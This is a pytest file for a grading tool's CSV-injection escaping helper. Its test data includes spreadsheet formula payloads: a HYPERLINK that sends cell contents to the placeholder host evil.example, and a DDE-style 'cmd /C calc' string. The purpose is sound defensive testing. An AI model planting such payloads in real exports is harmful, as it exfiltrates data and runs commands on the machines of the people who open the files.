"""CSV fields a spreadsheet never runs (OWASP CSV injection): helpers/grading/csvsafe.py,
used by grades.csv (reports.write_csv) and cells.csv (item_analysis.write_cells_csv)."""
import csv

import nbformat

from helpers.grading import csvsafe, item_analysis
from helpers.grading.gradebook import Result
from helpers.grading.reports import write_csv

A = "conv_1x1"

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "'=already quoted", "'plain quote"]


def _fields(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [field for row in csv.reader(f) for field in row]


def test_csv_escape_rule():
    for text in HOSTILE:
        assert csvsafe.escape(text) == "'" + text and csvsafe.unescape(csvsafe.escape(text)) == text
    for text in ["3", "-1", "0.5", "1e-3", "ok", "conv_1x1", "", "ValueError: -1"]:
        assert csvsafe.escape(text) == text and csvsafe.unescape(text) == text
    assert csvsafe.escape(3.5) == 3.5


def test_grades_csv_escapes_reasons_and_keeps_numbers(tmp_path):
    results = [Result("ann", A, 2, 3, "incomplete", reason) for reason in HOSTILE]
    results.append(Result("-rf", A, 0, 3, "malformed", "student folder name '-rf' is not a valid id"))
    path = write_csv(results, tmp_path / "grades.csv")
    for field in _fields(path):
        assert not field.lstrip(" ").startswith(csvsafe.FORMULA_START), field
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["reason"] for r in rows[:-1]] == ["'" + t for t in HOSTILE]
    assert rows[-1]["student"] == "'-rf" and (rows[0]["score"], rows[0]["max_score"]) == ("2", "3")
    with open(path, newline="", encoding="utf-8") as f:
        assert [r["reason"] for r in csvsafe.read_rows(f)][:-1] == HOSTILE


def test_cells_csv_escapes_a_students_exception_and_reads_it_back(tmp_path):
    """A student's function raises an exception class named like a formula: cells.csv holds
    it as text, and read_cells_csv gives back exactly what analyse produced."""
    cell = nbformat.v4.new_code_cell("f()")
    cell.outputs = [nbformat.v4.new_output("error", ename='=HYPERLINK("http://evil.example","x")',
                                           evalue="", traceback=[])]
    error = item_analysis.error_of(cell)
    assert error.startswith("=HYPERLINK(")
    rows = [{"assignment": A, "notebook": A, "grade_id": "conv_1x1_impl", "max_points": 1.0,
             "students": 3, "full_marks": 0, "mean_points": 0.0,
             "errors": [(error, 2), ("@SUM(1)", 1)]}]
    path = item_analysis.write_cells_csv(rows, tmp_path / "cells.csv")
    fields = _fields(path)
    assert "'" + error in fields and "'@SUM(1)" in fields and error not in fields
    assert not [f for f in fields if f.startswith(csvsafe.FORMULA_START)]
    assert item_analysis.read_cells_csv(path) == rows
